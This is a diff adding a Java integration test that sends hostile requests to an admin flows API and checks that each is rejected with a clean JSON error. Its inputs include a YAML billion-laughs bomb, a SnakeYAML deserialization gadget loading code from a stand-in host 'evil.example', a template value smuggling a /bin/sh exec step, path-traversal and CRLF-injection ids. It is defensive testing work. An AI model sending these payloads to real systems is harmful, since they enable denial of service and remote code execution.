@@ -113,6 +113,106 @@ class HostileRequestsIT {
         soft.assertAll();
     }
 
+    /**
+     * The admin flows routes with hostile flow documents and ids, sent with the admin token so each reaches the
+     * flow's own checks: every answer a 4xx with a JSON error that says what was wrong and names the field, no stack,
+     * library or database text, and no flow, integration or subscription left behind.
+     */
+    @Test
+    void theFlowsRoutesAnswerHostileDocumentsAndIdsWithAJsonErrorNamingTheField() {
+        String flows = "/api/v1/admin/flows";
+        String yaml = "application/yaml";
+        String json = "application/json";
+        String goodFlow = "name: hostile\nfrom: {bus: city.x}\nsteps:\n  - log: seen\n";
+        StringBuilder bomb = new StringBuilder("name: lol\nfrom: {bus: city.x}\nsteps:\n  - log: &a lol\n");
+        for (int i = 0; i < 9; i++) {
+            bomb.append("  - log: &").append((char) ('b' + i)).append(" [")
+                .append(String.join(", ", java.util.Collections.nCopies(9, "*" + (char) ('a' + i)))).append("]\n");
+        }
+        JsonArray manySamples = new JsonArray();
+        for (int i = 0; i < 101; i++) {
+            manySamples.add(new JsonObject().put("type", "city.x").put("data", new JsonObject().put("n", i)));
+        }
+        Map<String, RawHttp.Answer> answers = new java.util.LinkedHashMap<>();
+        answers.put("YAML over 64 KiB", flowRequest("POST", flows, yaml,
+            goodFlow + "# " + "x".repeat(70_000) + "\n"));
+        answers.put("a body over the routes' 2 MiB", flowRequest("POST", flows, yaml, "#" + "x".repeat(3_000_000)));
+        answers.put("YAML nested 500 deep", flowRequest("POST", flows, yaml,
+            "name: deep\nfrom: " + "[".repeat(500) + "]".repeat(500) + "\n"));
+        answers.put("JSON nested 5,000 deep", flowRequest("POST", flows, json,
+            "{\"definition\":" + "[".repeat(5_000) + "]".repeat(5_000) + "}"));
+        answers.put("anchors and aliases (billion laughs)", flowRequest("POST", flows, yaml, bomb.toString()));
+        answers.put("a Java tag", flowRequest("POST", flows, yaml,
+            "name: tag\nfrom: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
+                + "[\"http://evil.example/\"]]]]\n"));
+        answers.put("wrong content type", flowRequest("POST", flows, "text/plain", goodFlow));
+        answers.put("invalid JSON", flowRequest("POST", flows, json, "{\"definition\": \"name: x\", "));
+        answers.put("JSON that is not an object", flowRequest("POST", flows, json, "[\"name: x\"]"));
+        answers.put("definition not text", flowRequest("POST", flows, json, "{\"definition\": {\"name\": 1}}"));
+        answers.put("101 sample events for validate", flowRequest("POST", flows + "/validate", json,
+            new JsonObject().put("definition", goodFlow).put("events", manySamples).encode()));
+        answers.put("a sample event of 1.5 MB for validate", flowRequest("POST", flows + "/validate", json,
+            new JsonObject().put("definition", goodFlow).put("events", new JsonArray().add(new JsonObject()
+                .put("type", "city.x").put("data", new JsonObject().put("big", "x".repeat(1_500_000))))).encode()));
+        answers.put("samples that are not a list", flowRequest("POST", flows + "/validate", json,
+            new JsonObject().put("definition", goodFlow).put("events", "all of them").encode()));
+        answers.put("unknown template", flowRequest("POST", flows, json,
+            "{\"template\": \"../../etc/passwd\", \"parameters\": {}}"));
+        answers.put("template parameter with a YAML break", flowRequest("POST", flows, json, new JsonObject()
+            .put("template", "co2-alert-webhook").put("parameters", new JsonObject().put("name", "x")
+                .put("school", "sim-01\n  - exec: {executable: /bin/sh}").put("url", "https://a.example/"))
+            .encode()));
+        for (String id : List.of("..%2F..%2Fetc%2Fpasswd", "%2e%2e", "a%00b", "%C0%AE%C0%AE", "x".repeat(300),
+            "hostile%0d%0aSet-Cookie:%20a=b")) {
+            answers.put("GET flow id " + abbreviated(id), flowRequest("GET", flows + "/" + id, null, null));
+            answers.put("PUT flow id " + abbreviated(id), flowRequest("PUT", flows + "/" + id, yaml, goodFlow));
+            answers.put("rollback of flow id " + abbreviated(id), flowRequest("POST", flows + "/" + id + "/rollback",
+                json, "{\"version\": -1}"));
+            answers.put("DELETE flow id " + abbreviated(id), flowRequest("DELETE", flows + "/" + id, null, null));
+        }
+
+        SoftAssertions soft = new SoftAssertions();
+        answers.forEach((probe, a) -> {
+            String what = probe + ": " + a;
+            soft.assertThat(a.status()).as(what).isBetween(400, 499);
+            soft.assertThat(a.header("content-type")).as(what).startsWith("application/json");
+            JsonObject body;
+            try {
+                body = new JsonObject(a.body());
+            } catch (RuntimeException e) {
+                soft.fail(what + ": the error is not a JSON object");
+                return;
+            }
+            soft.assertThat(body.getString("error")).as(what).isNotBlank();
+            soft.assertThat(body.getString("field")).as(what + ": names the field").isNotBlank();
+            for (String leak : FLOW_LEAKS) {
+                soft.assertThat(a.body()).as(what + " leaks internals").doesNotContain(leak);
+            }
+        });
+        soft.assertThat(hub.client.get(flows).jsonArray().stream().map(o -> ((JsonObject) o).getString("name")))
+            .as("no flow was stored").doesNotContain("hostile", "lol", "tag", "deep", "x");
+        soft.assertThat(hub.client.anonymous().get("/health/ready").status()).as("still ready").isEqualTo(200);
+        System.out.println("HostileRequestsIT: " + answers.size() + " hostile flow requests");
+        soft.assertAll();
+    }
+
+    /** What an answer about a flow document must not show: stacks, databases, the parsers' own words. */
+    private static final List<String> FLOW_LEAKS = List.of("Exception", "\tat ", "at de.datenhafen", "org.h2",
+        "SQL", "INSERT ", "SELECT ", "snakeyaml", "jackson", "io.netty", "io.vertx", "StreamRead");
+
+    private static RawHttp.Answer flowRequest(String method, String path, String contentType, String body) {
+        byte[] bytes = body == null ? null : body.getBytes(StandardCharsets.UTF_8);
+        return contentType == null
+            ? RawHttp.sendFrom(null, hub.port, raw(method, path, bytes, "Authorization: Bearer " + DemoHub.TOKEN),
+                Duration.ofSeconds(10))
+            : RawHttp.sendFrom(null, hub.port, raw(method, path, bytes, "Authorization: Bearer " + DemoHub.TOKEN,
+                "Content-Type: " + contentType), Duration.ofSeconds(10));
+    }
+
+    private static String abbreviated(String s) {
+        return s.length() > 30 ? s.substring(0, 30) + "..." : s;
+    }
+
     private static void check(SoftAssertions soft, Route route, String probe, RawHttp.Answer a) {
         String what = route.method() + " " + route.path() + " [" + probe + "]: " + a;
         soft.assertThat(a.status()).as(what).isLessThan(500);
